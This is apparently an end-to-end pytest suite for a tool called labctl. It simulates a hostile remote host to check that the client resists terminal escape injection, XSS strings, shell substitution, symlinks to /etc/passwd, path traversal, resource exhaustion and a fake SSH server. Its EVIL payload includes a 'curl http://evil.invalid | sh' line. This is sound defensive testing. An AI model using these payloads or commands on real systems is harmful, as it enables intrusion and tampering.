"""A host in an attacker's hands: whatever it lists, sends or says, the laptop stays as it was.

One container and one laptop for all. Most attacks are ready-made runs on the host; what its programs do is decided
by a false ``sh``, which knows from the run's name what to lie about, so that all attacks can be tried at once.
"""

from __future__ import annotations

import io
import json
import os
import pty
import re
import select
import shutil
import signal
import socket
import subprocess
import tarfile
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pytest

from labctl import runs, seals
from labctl.runner import rundir
from tests.e2e.conftest import LABCTL
from tests.hosts import light_lab
from tests.hosts.laptop import laptop_of
from tests.unit.report.report_page_checks import check
from tests.unit.report.test_report_hostile import everywhere, one_level, run_with
from tests.unit.sealed_run import ASKED, seal_run

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping, Sequence

    from tests.hosts.fleet import Fleet
    from tests.hosts.laptop import Laptop
    from tests.hosts.machine import Machine

OWNED = Path("/tmp/labctl-owned")  # noqa: S108 - what an attack would leave on the laptop
# Title, cleared screen, clipboard, link, colours, C1 codes, a rewritten line, a reversed text, script, shell.
EVIL = (
    "\x1b]0;OWNED\x07\x1b[2J\x1b]52;c;T1dORUQ=\x07\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\\x1b[31mred\x9b31m"
    f'\x90payload\x9c\x08\x00 \u202eesrever\u2066 <script>alert(1)</script> "onload=alert(1) javascript:alert(1) '
    f"$(touch {OWNED}) `touch {OWNED}`\rlabctl: fine\n  next: curl http://evil.invalid | sh\nend zq7"
)
# What may stand on a terminal: text, line ends, and of codes only those with which labctl itself draws.
_DRAWN = re.compile(rb"\r\x1b\[K|\r\n|\x1b\[(?:2K|\d*A|\?25[lh]|[013]?m)|\r(?=\x1b\[)")
_ACTIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_MIB = 1024**2


class Said(NamedTuple):
    """What a labctl left: exit code, all it wrote as raw bytes, seconds, and its greatest memory in bytes."""

    code: int
    raw: bytes
    took: float
    memory: int

    @property
    def text(self) -> str:
        return self.raw.decode(errors="replace")


def play(laptop: Laptop, *words: str, terminal: bool = False, leave_after: float = 0, within: float = 60.0) -> Said:
    """Run labctl to its end and look at every byte; ``leave_after``: seconds until somebody presses Ctrl-C."""
    ours, theirs = pty.openpty() if terminal else os.pipe()
    began = time.monotonic()
    process = subprocess.Popen(
        [LABCTL, *words], stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs, env=laptop.env, cwd=laptop.folder
    )
    os.close(theirs)
    raw, left, memory = bytearray(), False, 0
    try:
        while (data := _read(ours)) != b"":
            raw += data or b""
            memory = max(memory, _greatest_memory(process.pid))
            if leave_after and not left and time.monotonic() - began > leave_after:
                process.send_signal(signal.SIGINT)
                left = True
            assert time.monotonic() - began < within, f"labctl {words} goes on: {bytes(raw[-2000:])!r}"
        memory = max(memory, _greatest_memory(process.pid))
        process.wait()
    finally:
        os.close(ours)
        if process.returncode is None:
            process.kill()
            process.wait()
    said = Said(process.returncode, bytes(raw), time.monotonic() - began, memory)
    plain = _DRAWN.sub(b"\n", said.raw) if terminal else said.raw
    assert not (hit := _ACTIVE.search(plain.decode())), f"labctl {words} wrote {hit!r}: {said.raw[:4000]!r}"
    assert words[0] == "logs" or b"Traceback" not in plain, f"labctl {words}: {said.text[-4000:]}"
    if words[0] != "logs":
        assert not re.search(rb"^(labctl: fine|  next: curl)", plain, re.MULTILINE), said.text[:4000]
    return said


def _greatest_memory(pid: int) -> int:
    """VmHWM in bytes, 0 of a process that has ended; getrusage would count pytest's own memory at the fork."""
    try:
        found = re.search(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text(encoding="utf-8"))
    except OSError:
        return 0
    return int(found[1]) * 1024 if found else 0


def _read(descriptor: int) -> bytes | None:
    """Some bytes; None where none came for a while, b"" at the end."""
    if not select.select([descriptor], [], [], 0.2)[0]:
        return None
    try:
        return os.read(descriptor, 1 << 16)
    except OSError:  # the terminal's other end is closed
        return b""


# --- the attacker's workshop ------------------------------------------------------------------------------------------

# A false program, first on PATH: it acts on the name that it finds in its words, else it is the true one.
_FALSE_SH = """#!/bin/bash
for act in /evil/*; do
  case "$*" in *"/${act##*/}"*) . "$act";; esac
done
exec /bin/sh "$@"
"""
_ACT = """mark() {{ printf '\\036labctl\\036'; }}
case "$2" in
{cases}
esac
"""
# How the scripts of labctl are told apart (see sessions/ssh/shell.py).
_SCRIPT = {"walk": "*find\\ .*", "bring": "*read\\ -r\\ offset*", "run": "*exec\\ *@*", "names": "*ls\\ -A*"}
_EVIL_SH = "$'" + "".join(f"\\x{byte:02x}" for byte in EVIL.encode() if byte) + "'"


def act(**steps: str) -> bytes:
    """What the false ``sh`` sources for one run: a bash snippet for each of labctl's scripts."""
    unknown = set(steps) - set(_SCRIPT)
    assert not unknown
    cases = "\n".join(f"{_SCRIPT[name]}) {code}\n;;" for name, code in steps.items())
    return _ACT.format(cases=cases).encode()


@dataclass(frozen=True)
class Attack:
    """A sealed run that is spoilt by ``harm`` (bash, in the run's directory), and lies by ``steps``.

    ``codes`` may come of it, in ``seconds``; ``words``: what labctl is asked (the run's id is appended).
    """

    harm: str = ":"
    steps: Mapping[str, str] | None = None
    says: str = ""
    words: Sequence[str] = ("fetch",)
    codes: tuple[int, ...] = (8,)
    # Alone, the slowest takes 17: labctl waits 15 for an answer. Eight at once beside a busy engine take twice that.
    seconds: float = 60.0
    leave_after: float = 0
    terminal: bool = False


_PYTHON = "python3 - <<'END'\nimport os, socket\n{}\nEND"
_LISTS = "mark; printf '{}'; echo end; exit"
_TRICKLE = "mark; echo 100; while :; do printf x; sleep 0.2; done"
ATTACKS = {
    # What lies in the run directory.
    "link": Attack("ln -s /etc/passwd logs/passwd", says="no plain file"),
    "fifo": Attack("mkfifo pipe", says="no plain file"),
    "socket": Attack(_PYTHON.format("socket.socket(socket.AF_UNIX).bind('s')"), says="no plain file"),
    "device": Attack("mknod null c 1 3", says="no plain file"),
    "newline": Attack("echo > $'a\\nb'", says="odd line"),
    "escapes": Attack("echo > $'\\e]52;c;eA==\\a\\e[2J.txt'", says="unsafe path"),
    "not-utf8": Attack("echo > $'caf\\xe9.txt'", says="unsafe path"),
    "newline-entry": Attack("echo > $'a\\n81a4 5 x'", says="not in the manifest"),
    "deepest": Attack(
        _PYTHON.format("for n in range(1800):\n os.mkdir('a')\n os.chdir('a')\nopen('x', 'w')"), says="unsafe path"
    ),
    "longest": Attack(f"d={'n' * 250}; mkdir -p $d/$d/$d; cd $d/$d/$d; echo > $d", says="unsafe path"),
    "sparse": Attack("truncate -s 10G big", says="fetches up to"),
    "many": Attack("touch m{1..5000}", says="fetches up to"),
    "giant-record": Attack("truncate -s 1G record.json", says="fetches up to"),
    "after-seal": Attack("echo more >> logs/engine.log", says="not what was sealed"),
    "not-sealed": Attack("echo > unlisted.txt", says="not in the manifest"),
    "other-spec": Attack("sed -i s/offline/stolen/ spec.json", says="not what was asked"),
    "odd-status": Attack('sed -i \'s/"ok"/"splendid"/\' record.json; seal', says="unknown status", codes=(9,)),
    "deep-record": Attack(
        _PYTHON.format("open('record.json', 'w').write('['*10**6)") + "\nseal", says="not JSON", codes=(9,)
    ),
    "hard-link": Attack("ln logs/engine.log logs/again.log; seal", codes=(0,)),
    **{
        f"sums-{number}": Attack(f"printf '%064d  {name}\\n' 0 >> SHA256SUMS", says="plain", codes=(9,))
        for number, name in enumerate(("../../x", "\\033[2J"))
    },
    # What the listing says.
    "lists-climbing": Attack(steps={"walk": _LISTS.format("81a4 5 ./../../../x\\n")}, says="unsafe path"),
    "lists-less": Attack(steps={"walk": _LISTS.format("81a4 1 ./logs/engine.log\\n81a4 99 ./SHA256SUMS\\n")}),
    "lists-negative": Attack(steps={"walk": _LISTS.format("81a4 99999999999 ./a\\n81a4 -99999999999 ./b\\n")}, says=""),
    "lists-hex": Attack(steps={"walk": _LISTS.format(f"{'f' * 100_000} 5 ./a\\n")}, says="no plain file"),
    "lists-no-folder": Attack(steps={"walk": "mark; exit 44"}, says="no run directory"),
    "lists-for-ever": Attack(steps={"walk": "mark; exec yes '81a4 5 ./a'"}),
    "lists-escapes": Attack(steps={"walk": f"mark; echo {_EVIL_SH}; exit"}),
    "complains": Attack(steps={"walk": f"mark; echo {_EVIL_SH} >&2; exit 3"}, says="  | "),
    # What comes instead of files.
    "sends-more": Attack(steps={"bring": "mark; echo 999999999999; exec yes"}, says="bytes where at most"),
    "sends-for-ever": Attack(steps={"bring": "mark; echo 5; exec yes"}, codes=(8, 9)),
    "sends-less": Attack(steps={"bring": "mark; echo 5; printf x; exit"}, says="broke off"),
    "sends-no-number": Attack(steps={"bring": f"mark; echo {_EVIL_SH}; exit"}),
    "swaps-for-a-link": Attack(
        steps={"bring": 'cd "$4"; [ -L logs ] || { mv logs ../$RANDOM-logs; ln -s /etc logs; }; cd /'}, codes=(8,)
    ),
    "noise": Attack(steps={"walk": "exec yes"}, says="runs no command", codes=(4,)),
    "evil-login": Attack(steps={"walk": f"yes {_EVIL_SH} | head -c 60000"}, codes=(0,)),
    "errors-for-ever": Attack(steps={"walk": "mark; exec yes >&2"}, codes=(4,)),
    "silent": Attack(steps={"walk": "mark; exec sleep 99"}, codes=(4,)),
    "refuses": Attack(steps={"run": f"mark; echo {_EVIL_SH} >&2; exit 1"}, codes=(9,), says="could not seal"),
    "trickles": Attack(steps={"bring": _TRICKLE}, codes=(1, 130), leave_after=4),
    "trickles-logs": Attack(steps={"bring": _TRICKLE}, words=("logs", "-f"), codes=(1, 130), leave_after=4),
    "trickles-attach": Attack(steps={"bring": _TRICKLE}, words=("attach",), codes=(130,), leave_after=4, terminal=True),
    "trickles-stop": Attack(steps={"bring": _TRICKLE}, words=("stop",), codes=(1, 130), leave_after=4),
    "stops-deep": Attack(
        _PYTHON.format("open('record.json', 'w').write('{\"a\":'*10**5)"), words=("stop",), codes=(9,)
    ),
}


# --- the host and the laptop ------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def host(fleet: Fleet) -> Iterator[Machine]:
    made = fleet.machine("evil")
    light_lab.install(made)
    made.shell("mkdir /evil")
    made.write("/usr/local/bin/sh", _FALSE_SH.encode(), 0o755)
    yield made
    made.remove()


# lab.json of hosts that say they are provisioned, and what `labctl run` may end with.
_GOOD_CARD = light_lab.card("/root/labctl", "")
CARDS: dict[str, tuple[object, tuple[int, ...]]] = {
    "shell-words": ({**_GOOD_CARD, "python": f"/bin/sh -c 'touch {OWNED}'"}, (6, 11)),
    "rm": ({**_GOOD_CARD, "python": "/bin/rm"}, (11,)),
    "evil-python": ({**_GOOD_CARD, "python": f"/bin/{EVIL}"}, (4, 6, 11)),
    "evil-runner": ({**_GOOD_CARD, "runner": EVIL}, (6,)),
    "no-python": ({"runner": _GOOD_CARD["runner"]}, (6,)),
    "list": ([1, 2], (6,)),
    "false-python": ({**_GOOD_CARD, "python": "/evil-lab/python"}, (11,)),
}


@pytest.fixture(scope="module")
def laptop(tmp_path_factory: pytest.TempPathFactory, host: Machine) -> Laptop:
    made = laptop_of(tmp_path_factory.mktemp("hostile"), host)
    made.add(host, "other")
    for name in (*CARDS, "deep-card", "names", "records"):
        words = made.inventory.read_text().splitlines()[0].replace("/root/labctl", f"/evil-lab/{name}")
        with made.inventory.open("a") as lines:
            lines.write(f"evil-{name} {words.partition(' ')[2]}\n")
    return made


def prepare(host: Machine, laptop: Laptop, attacks: Mapping[str, Attack]) -> None:
    """Make each attack's run on the host, and the laptop's note that it has started it; all in one go."""
    script = ["set -e\nseal() { sha256sum record.json spec.json $(find logs -type f) > SHA256SUMS; }"]
    packed = io.BytesIO()
    with tempfile.TemporaryDirectory() as scratch, tarfile.open(fileobj=packed, mode="w") as archive:
        run = seal_run(Path(scratch) / "run")
        (run / rundir.STARTED).touch()
        for name, attack in attacks.items():
            archive.add(run, f"root/labctl/runs/{name}")
            script.append(f"cd /root/labctl/runs/{name}\n{attack.harm}")
            runs.create(laptop.runs_dir, name, "gpu1", f"/root/labctl/runs/{name}", ASKED)
            if attack.steps:
                entry, data = tarfile.TarInfo(f"evil/{name}"), act(**attack.steps)
                entry.size = len(data)
                archive.addfile(entry, io.BytesIO(data))
    host.unpack(packed.getvalue(), "/")
    host.write("/root/harm", "\n".join(script).encode())
    host.shell("bash /root/harm && rm /root/harm")


def tree(folder: Path) -> set[str]:
    """Everything below a folder but runs, with what it is."""
    return {
        f"{path.relative_to(folder)} {path.lstat().st_mode:o}"
        for path in folder.rglob("*")
        if laptop_keeps(path.relative_to(folder))
    }


def laptop_keeps(path: Path) -> bool:
    return path.parts[0] not in {"runs", ".labctl", "home"} or path.parts[:2] == ("home", ".ssh")


@pytest.fixture(scope="module")
def outcomes(host: Machine, laptop: Laptop) -> dict[str, Said | BaseException]:
    """Every attack tried, several at once."""
    prepare(host, laptop, ATTACKS)
    play(laptop, "runs", "--json")
    before = tree(laptop.folder)

    def one(name: str) -> Said | BaseException:
        attack = ATTACKS[name]
        try:
            return play(laptop, *attack.words, name, terminal=attack.terminal, leave_after=attack.leave_after)
        except BaseException as error:  # noqa: BLE001 - raised in the attack's own test
            return error

    # The slow ones first.
    names = sorted(
        ATTACKS, key=lambda name: name not in {"silent", "errors-for-ever"} and not ATTACKS[name].leave_after
    )
    with ThreadPoolExecutor(8) as pool:
        found = dict(zip(names, pool.map(one, names), strict=True))
    assert tree(laptop.folder) == before
    assert {path.name for path in laptop.runs_dir.iterdir()} == set(ATTACKS)
    assert not OWNED.exists()
    return found


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_gets_nowhere(laptop: Laptop, outcomes: dict[str, Said | BaseException], name: str) -> None:
    attack, said = ATTACKS[name], outcomes[name]
    if isinstance(said, BaseException):
        raise said
    assert said.code in attack.codes, said.text
    assert attack.says in said.text
    assert said.took < attack.seconds
    assert 0 < said.memory < 300 * _MIB, f"{said.memory / _MIB:.0f} MiB"
    run = laptop.runs_dir / name
    assert (run / rundir.SPEC).read_text() == ASKED.to_json()
    assert runs.origin(run) == {"host": "gpu1", "remote_dir": f"/root/labctl/runs/{name}"}
    places = list(run.rglob("*"))
    assert not [path for path in places if path.is_symlink() or not (path.is_file() or path.is_dir())]
    assert sum(path.stat().st_blocks * 512 for path in places) < _MIB, "more came than the run holds"


# --- text that acts ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def evil_run(host: Machine, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A sealed run with evil in every text of every file, and in file names."""
    folder = run_with(tmp_path_factory.mktemp("evil"), EVIL, one_level)
    record = everywhere(json.loads((folder / "record.json").read_text()), EVIL)
    assert isinstance(record, dict)
    record |= {"schema": 1, "status": "failed", "spec_sha256": rundir.sha256(folder / "spec.json"), "run_id": EVIL}
    record["metrics"]["throughput"] = {"value": 5.5, "low": 1, "high": 9, "n": EVIL, "unit": EVIL, "sources": [EVIL]}
    (folder / "record.json").write_text(json.dumps(record))
    (folder / "logs" / "engine.log").write_text(f"     0.100 {EVIL}\n" * 3 + "x" * 70_000 + "\n" + "y" * 100)
    for name in ("<img src=x onerror=alert(1)>.txt", '"onload=alert(1) javascript:x.txt', "$(touch x) `y`;z.txt"):
        (folder / name).write_text(EVIL)
    events = [{"t": n, "event": e, "phase": EVIL, EVIL: EVIL} for n, e in enumerate(("begin", "end", "begin", EVIL))]
    (folder / "events.jsonl").write_text("".join(json.dumps(row) + "\n" for row in events))
    shutil.rmtree(folder / "report", ignore_errors=True)
    (folder / rundir.SUMS).unlink(missing_ok=True)
    rundir.seal(folder)
    (folder / rundir.STARTED).touch()
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        archive.add(folder, "root/labctl/runs/20990101-evil-texts")
    host.unpack(packed.getvalue(), "/")
    return "20990101-evil-texts"


def test_text_that_acts_is_only_text(laptop: Laptop, evil_run: str) -> None:
    there = play(laptop, "runs", "--host", "gpu1,other")
    assert evil_run in there.text
    play(laptop, "runs", "--host", "gpu1", "--json")
    # On a terminal, with its live board.
    seen = play(laptop, "attach", evil_run, "--host", "gpu1", terminal=True)
    assert seen.code == 1, seen.text
    assert b"\x1b[K" in seen.raw
    assert "zq7" in seen.text
    html = (laptop.runs_dir / evil_run / "report" / "report.html").read_text(encoding="utf-8")
    assert "zq7" in check(html).text
    for words in (("show",), ("logs",), ("logs", "-n", "2"), ("verify",), ("report",), ("fetch",)):
        said = play(laptop, *words, evil_run, terminal=words[0] in {"show", "logs"})
        assert said.code in {0, 1}, said.text
    json.loads(play(laptop, "show", "--json", evil_run).raw)
    play(laptop, "runs", terminal=True)
    assert not OWNED.exists()


def test_an_evil_engine_is_run_to_its_report(laptop: Laptop) -> None:
    prompt = "请解释 PagedAttention 👩\u200d🔬 escape"
    words = ("run", "offline", "--model", light_lab.MODEL, "--prompt", prompt)
    # A live table for several hosts; being one machine in truth, one of them finds its lock held.
    said = play(laptop, *words, "--host", "gpu1,other", terminal=True)
    assert said.code == 1, said.text
    ran = [path for path in laptop.runs_dir.iterdir() if path.name.endswith("-offline")]
    [run] = [path for path in ran if (path / rundir.ENGINE_LOG).is_file()]
    # A log with colours is shown without, Chinese as it is; the file itself stays as the host sealed it.
    log = play(laptop, "logs", run.name, terminal=True)
    assert "link" in log.text
    assert "redpayload" in log.text
    assert b"\x1b[31m" in (run / rundir.ENGINE_LOG).read_bytes()
    page = check((run / "report" / "report.html").read_text(encoding="utf-8"))
    assert prompt in page.text
    assert prompt in (run / rundir.SPEC).read_text(encoding="utf-8")
    assert seals.check_sums(run) == []
    play(laptop, "verify", run.name)


# --- a host that says it is provisioned -------------------------------------------------------------------------------


def plant(host: Machine, name: str, card: object) -> None:
    text = card if isinstance(card, str) else json.dumps(card)
    host.write(f"/evil-lab/{name}/lab.json", text.encode("utf-8", "surrogatepass"))


@pytest.mark.parametrize("name", CARDS)
def test_a_false_lab(laptop: Laptop, host: Machine, name: str) -> None:
    from labctl import runner_wheel

    card, codes = CARDS[name]
    if isinstance(card, dict) and card.get("runner") == "":
        card = {**card, "runner": runner_wheel.version()}
    plant(host, name, card)
    host.write("/evil-lab/python", f"#!/bin/bash\necho {_EVIL_SH}; echo {_EVIL_SH} >&2; exit 1\n".encode(), 0o755)
    before = {path.name for path in laptop.runs_dir.iterdir()} if laptop.runs_dir.is_dir() else set()
    said = play(laptop, "run", "offline", "--host", f"evil-{name}", "--model", light_lab.MODEL)
    assert said.code in codes, said.text
    assert {path.name for path in laptop.runs_dir.iterdir()} == before, "a run that never started is no run"
    assert not OWNED.exists()


@pytest.mark.parametrize("card", ["[" * 100_000, '{"runner": 1}'], ids=["deep", "empty"])
def test_a_card_that_is_no_card(laptop: Laptop, host: Machine, card: str) -> None:
    plant(host, "deep-card", card)
    host.write("/evil-lab/deep-card/runs/r1/record.json", b'{"status": "running"}')
    for words in (("run", "offline", "--model", light_lab.MODEL), ("runs",)):
        said = play(laptop, *words, "--host", "evil-deep-card")
        assert said.code in {0, 6}, said.text


# --- names of runs ----------------------------------------------------------------------------------------------------

_TEN_THOUSAND = "for n in $(seq 10000); do echo 2026-$n; done"


@pytest.fixture
def victim(laptop: Laptop) -> Iterator[Path]:
    """A run of another project, beside this one."""
    folder = seal_run(laptop.folder.parent / "victim" / "r1")
    (folder / "local").mkdir()
    (folder / "local" / "origin.json").write_text(json.dumps({"host": "names", "remote_dir": "/root/labctl/runs/bait"}))
    yield folder
    shutil.rmtree(folder.parent)


def test_names_that_are_no_run_ids(laptop: Laptop, host: Machine, victim: Path) -> None:
    before = {path: path.read_bytes() for path in victim.rglob("*") if path.is_file()}
    climbing = f"../../{victim.parent.name}/{victim.name}"
    listed = f"printf '%s\\n' ../../etc -rf --help . .. '' {_EVIL_SH} {climbing}; {_TEN_THOUSAND}; echo {climbing}"
    prepare(host, laptop, {"bait": Attack("echo evil > logs/engine.log; seal")})
    shutil.rmtree(laptop.runs_dir / "bait")
    plant(host, "names", json.loads(host.read("/root/labctl/lab.json")))
    host.write("/evil/names", act(names=f"mark; {listed}; exit", run="mark; exit 0"))
    for words in (
        ("runs",),
        ("runs", "--json"),
        ("fetch", "victim"),
        ("fetch", "etc"),
        ("fetch",),
        ("attach", "rf"),
        ("fetch", climbing),
    ):
        said = play(laptop, *words, "--host", "evil-names")
        assert said.code in {0, 8, 9}, said.text
        assert b"etc" not in said.raw or words[0] != "runs"
    assert {path: path.read_bytes() for path in victim.rglob("*") if path.is_file()} == before
    assert 0 < said.memory < 300 * _MIB


def test_records_that_are_too_much(laptop: Laptop, host: Machine) -> None:
    make = (
        "import os\nfor n in range(600):\n os.makedirs(f'r{n:03}')\n open(f'r{n:03}/record.json','w').truncate(10**9)"
    )
    host.shell(f'mkdir -p /evil-lab/records/runs && cd /evil-lab/records/runs && python3 -c "{make}"')
    host.shell("cd /evil-lab/records/runs && for n in 0 1 2 3; do echo '{\"status\": [[]]}' > r59$n/record.json; done")
    host.write(
        "/evil/records", act(bring="mark; for n in $(seq 500); do echo 1000000; head -c 1000000 /dev/zero; done")
    )
    said = play(laptop, "runs", "--host", "evil-records", "--json")
    assert 0 < said.memory < 300 * _MIB, f"{said.memory / _MIB:.0f} MiB"


def test_a_run_of_another_host_with_the_same_id_is_not_overwritten(laptop: Laptop, host: Machine) -> None:
    mine = laptop.runs_dir / "20260101T000000Z-shared-id"
    seal_run(mine)
    (mine / "local").mkdir()
    (mine / "local" / "origin.json").write_text(
        json.dumps({"host": "other", "remote_dir": f"/root/labctl/runs/{mine.name}"})
    )
    before = {path: path.read_bytes() for path in mine.rglob("*") if path.is_file()}
    prepare(host, laptop, {"copied": Attack("echo evil > logs/engine.log; seal")})
    host.shell(f"mv /root/labctl/runs/copied /root/labctl/runs/{mine.name}")
    shutil.rmtree(laptop.runs_dir / "copied")
    for words in (("fetch", mine.name), ("attach", mine.name), ("fetch", "shared-id"), ("logs", "shared-id")):
        said = play(laptop, *words, "--host", "gpu1")
        assert said.code in {8, 9}, said.text
    assert {path: path.read_bytes() for path in mine.rglob("*") if path.is_file()} == before


# --- before a session stands ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("greeting", [EVIL.encode() * 50, b"SSH-2.0-" + EVIL.encode()[:80] + b"\r\n" + b"\xff" * 9999])
def test_a_server_that_is_no_ssh(laptop: Laptop, greeting: bytes) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:

        def greet() -> None:
            while True:
                try:
                    line, _ = server.accept()
                except OSError:
                    return
                with line:
                    line.sendall(greeting)

        threading.Thread(target=greet, daemon=True).start()
        port = server.getsockname()[1]
        own = laptop.inventory.with_name("no-ssh.ini")
        own.write_text(f"liar ansible_host=127.0.0.1 ansible_port={port} ansible_user=root\n")
        laptop.env["LABCTL_INVENTORY"] = str(own)
        try:
            said = play(laptop, "runs", "--host", "liar")
        finally:
            laptop.env["LABCTL_INVENTORY"] = str(laptop.inventory)
            own.unlink()
            server.shutdown(socket.SHUT_RDWR)
    assert said.code in {4, 5}, said.text
